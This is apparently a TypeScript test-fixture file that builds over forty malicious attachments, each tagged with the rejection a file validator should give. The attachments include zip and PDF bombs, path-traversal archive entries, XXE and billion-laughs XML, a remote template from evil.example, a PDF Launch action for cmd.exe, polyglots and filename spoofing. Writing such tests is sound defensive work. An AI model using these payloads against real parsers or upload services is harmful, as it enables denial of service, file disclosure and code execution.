/** More than forty files that want something else than to be read, each made anew, with what each is to be refused for. */
import { deflateSync, gzipSync } from 'node:zlib';
import type { Fault } from '@/lib/attachment/types';
import { jpegOf, officeParts, openDocumentParts, part, pdfOf, pngOf } from './sound-files';
import { type ZipPart, zipOf } from './zip-writer';

export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly make: () => Buffer;
  readonly fault: Fault;
}

const MEGABYTE = 1024 * 1024;
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const docx = (what: string, fault: Fault, make: () => Buffer): HostileFile => ({
  what,
  name: 'plan.docx',
  type: DOCX,
  make,
  fault,
});
const pdf = (what: string, fault: Fault, make: () => Buffer): HostileFile => ({
  what,
  name: 'plan.pdf',
  type: 'application/pdf',
  make,
  fault,
});
const other = (what: string, name: string, fault: Fault, make: () => Buffer): HostileFile => ({
  what,
  name,
  type: '',
  make,
  fault,
});
const withParts = (...more: readonly ZipPart[]) => zipOf(officeParts('docx', more));
const bomb = (megabytes: number) => ({ name: 'word/media/image.xml', bytes: Buffer.alloc(megabytes * MEGABYTE, 0x20) });
const xml = (text: string) => part('word/settings.xml', text);
const relation = (type: string, mode = 'External') =>
  part(
    'word/_rels/settings.xml.rels',
    `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="https://evil.example/x.dotm" TargetMode="${mode}"/></Relationships>`,
  );
const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const objectStream = (text: string) => {
  const packed = deflateSync(Buffer.from(text), { level: text.length > 1e6 ? 1 : 6 }).toString('latin1');
  return `3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed}\nendstream\nendobj\n`;
};

export const HOSTILE_FILES: readonly HostileFile[] = [
  // Bombs
  docx('a bomb of 300 MB that says so', 'unpacks-too-much', () => withParts(bomb(300))),
  docx('a bomb of 300 MB that says 10 kB', 'unsafe-archive', () => withParts({ ...bomb(300), size: 10_000 })),
  docx('a bomb that says 300 MB in one place and 10 kB in the other', 'unsafe-archive', () =>
    withParts({ ...bomb(40), size: 10_000, localSize: 40 * MEGABYTE }),
  ),
  docx('a small part that unfolds beyond reason', 'unpacks-too-much', () => withParts(bomb(20))),
  docx('ten thousand parts', 'unpacks-too-much', () =>
    withParts(...Array.from({ length: 10_000 }, (_, n) => part(`word/${n}.xml`, 'x'))),
  ),
  docx('parts that all lie on the same bytes', 'unsafe-archive', () =>
    zipOf(
      officeParts(
        'docx',
        Array.from({ length: 150 }, (_, n) => part(`word/${n}.xml`, 'x')),
      ),
      { overlapping: true },
    ),
  ),
  pdf('a PDF whose packed objects unfold to 300 MB', 'unpacks-too-much', () =>
    pdfOf(objectStream(' '.repeat(300 * MEGABYTE))),
  ),
  other('a picture of ten thousand million points', 'plan.png', 'unpacks-too-much', () => pngOf(100_000, 100_000)),
  // Archives that lie
  docx('an archive in an archive', 'nested', () =>
    withParts({ name: 'word/embeddings/inner.dat', bytes: zipOf([bomb(1)]) }),
  ),
  docx('an archive in an archive, by its name', 'nested', () => withParts(part('word/embeddings/inner.zip', 'x'))),
  docx('a packed file in an archive', 'nested', () =>
    withParts({ name: 'word/media/image.emz', bytes: gzipSync('x') }),
  ),
  docx('a program in an archive', 'nested', () =>
    withParts({ name: 'word/media/image.png', bytes: Buffer.from('MZ\x90\x00x', 'latin1') }),
  ),
  docx('a way out of the folder', 'unsafe-archive', () => withParts(part('word/../../../etc/cron.d/x', 'x'))),
  docx('a way out, as Windows writes it', 'unsafe-archive', () => withParts(part('..\\..\\autoexec.bat', 'x'))),
  docx('a path from the root', 'unsafe-archive', () => withParts(part('/etc/passwd', 'x'))),
  docx('a symbolic link', 'unsafe-archive', () => withParts({ ...part('word/link', '/etc/passwd'), mode: 0o120777 })),
  docx('two parts of one name', 'unsafe-archive', () => withParts(part('word/Document.xml', '<other/>'))),
  docx('a part with another name before it than in the directory', 'unsafe-archive', () =>
    withParts({ ...part('word/a.xml', 'x'), localName: 'word/b.xml' }),
  ),
  docx('a part that is not what its sum says', 'unsafe-archive', () =>
    withParts({ ...part('word/a.xml', 'x'), crc: 1 }),
  ),
  docx('an archive with a password', 'encrypted', () => withParts({ ...part('word/a.xml', 'x'), flags: 1 })),
  docx('an archive behind something else', 'two-in-one', () =>
    zipOf(officeParts('docx'), { before: Buffer.from('PK\x03\x04<html><script>alert(1)</script>', 'latin1') }),
  ),
  docx('an archive with a page behind it', 'two-in-one', () =>
    zipOf(officeParts('docx'), { after: Buffer.from('<html><script>alert(1)</script>') }),
  ),
  docx('an archive that is no document', 'unknown-format', () => zipOf([part('a.txt', 'x')])),
  // Declarations
  docx('entities from outside', 'declares-entities', () =>
    withParts(xml('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
  ),
  docx('a thousand million laughs', 'declares-entities', () =>
    withParts(xml(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><x>&l10;</x>`)),
  ),
  docx('entities in letters of two bytes', 'declares-entities', () =>
    withParts({
      name: 'word/settings.xml',
      bytes: Buffer.from(
        '\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x/>',
        'utf16le',
      ),
    }),
  ),
  // What runs
  docx('a macro', 'active', () => withParts({ name: 'word/vbaProject.bin', bytes: Buffer.from('x') })),
  {
    ...docx('a workbook with macros under a plain name', 'active', () =>
      zipOf(
        officeParts(
          'xlsx',
          [],
          '<Override PartName="/xl/x" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
        ),
      ),
    ),
    name: 'plan.xlsx',
    type: XLSX,
  },
  docx('a template fetched from elsewhere', 'active', () => withParts(relation('attachedTemplate'))),
  docx('a template fetched from elsewhere, in disguise', 'active', () =>
    withParts(relation('attachedTemplate', '&#69;xternal')),
  ),
  other('a text with a macro', 'plan.odt', 'active', () =>
    zipOf(openDocumentParts('text', [part('Basic/Standard/Module1.xml', '<x/>')])),
  ),
  pdf('a PDF that runs a script', 'active', () => pdfOf('3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n')),
  pdf('a PDF that starts a program, its packed name in numbers', 'active', () =>
    pdfOf(objectStream('<</S/L#61unch/F(cmd.exe)>>')),
  ),
  pdf('a PDF with a file inside', 'active', () =>
    pdfOf('3 0 obj\n<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream\nendobj\n'),
  ),
  pdf('a PDF with a password', 'encrypted', () => pdfOf('', '/Encrypt 9 0 R')),
  // Two in one, or none
  pdf('a page that is a PDF, too', 'two-in-one', () =>
    Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdfOf()]),
  ),
  pdf('a PDF that is a page, too', 'two-in-one', () =>
    Buffer.from(
      pdfOf().toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html><script>alert(1)</script>\n'),
      'latin1',
    ),
  ),
  pdf('a PDF with an archive behind it', 'two-in-one', () => Buffer.concat([pdfOf(), zipOf([part('a.txt', 'x')])])),
  other('a picture with an archive behind it', 'plan.png', 'two-in-one', () =>
    Buffer.concat([pngOf(), zipOf([part('a.txt', 'x')])]),
  ),
  other('a photograph with a page behind it', 'plan.jpg', 'two-in-one', () =>
    Buffer.concat([jpegOf(), Buffer.from('<script>alert(1)</script>')]),
  ),
  pdf('no byte at all', 'empty', () => Buffer.alloc(0)),
  pdf('a PDF cut in the middle', 'broken', () => pdfOf().subarray(0, 100)),
  pdf('a program called a PDF', 'unknown-format', () => Buffer.from('MZ\x90\x00\x03\x00', 'latin1')),
  pdf('a page called a PDF', 'unknown-format', () => Buffer.from('<!DOCTYPE html><script>alert(1)</script>')),
  other('a page called a text', 'plan.txt', 'unknown-format', () => Buffer.from('\n <HTML><script>alert(1)</script>')),
  other('a picture drawn by script', 'plan.svg', 'unknown-format', () => Buffer.from('<svg onload="alert(1)"/>')),
  other('a PDF called a program', 'plan.pdf.exe', 'disagrees', () => pdfOf()),
  other('a PDF that reads as another name', 'plan\u202Efdp.exe', 'disagrees', () => pdfOf()),
  { ...pdf('a document sent as a page', 'disagrees', () => pdfOf()), type: 'text/html' },
  other('an old document', 'plan.doc', 'unknown-format', () => compound('WordDocument')),
  docx('a new document with a password', 'encrypted', () => compound('EncryptedPackage')),
];

function compound(name: string): Buffer {
  return Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(512),
    Buffer.from(name, 'utf16le'),
  ]);
}
